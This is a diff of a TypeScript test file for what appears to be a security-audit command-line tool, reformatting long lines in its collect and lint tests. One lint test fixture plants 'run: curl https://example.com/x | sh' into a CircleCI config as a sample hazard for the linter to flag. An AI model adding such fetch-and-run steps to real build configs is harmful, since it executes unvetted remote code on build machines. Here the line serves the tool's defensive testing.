@@ -104,7 +104,12 @@ describe("collect", () => {
     expect(await interrupted).toMatchObject({ status: 130, stdout: "", stderr: expect.stringContaining("`--resume`") as string });
     expect(readdirSync(folder.top).filter((name) => name.startsWith("secaudit-snapshot"))).toEqual([]);
     fake.setFaults([]);
-    const asked = new Set(fake.requests().filter(({ status }) => status === 200).map(({ url }) => url));
+    const asked = new Set(
+      fake
+        .requests()
+        .filter(({ status }) => status === 200)
+        .map(({ url }) => url),
+    );
     fake.forget();
     expect(await run(folder, [...args, "--resume"])).toMatchObject({ status: 0, stderr: "" });
     const again = fake.requests().filter(({ url, method }) => method === "GET" && asked.has(url));
@@ -139,7 +144,10 @@ describe("lint", () => {
   });
 
   it("prints its findings when an API fails; with --online that is 2", async () => {
-    const folder = project({ ...shop, ".circleci/config.yml": clean.replace("checkout", "run: curl https://example.com/x | sh") });
+    const folder = project({
+      ...shop,
+      ".circleci/config.yml": clean.replace("checkout", "run: curl https://example.com/x | sh"),
+    });
     fake.setFaults([{ kind: "html" }]);
     const usual = await run(folder, ["-f", "json"]);
     expect(usual.status).toBe(1);
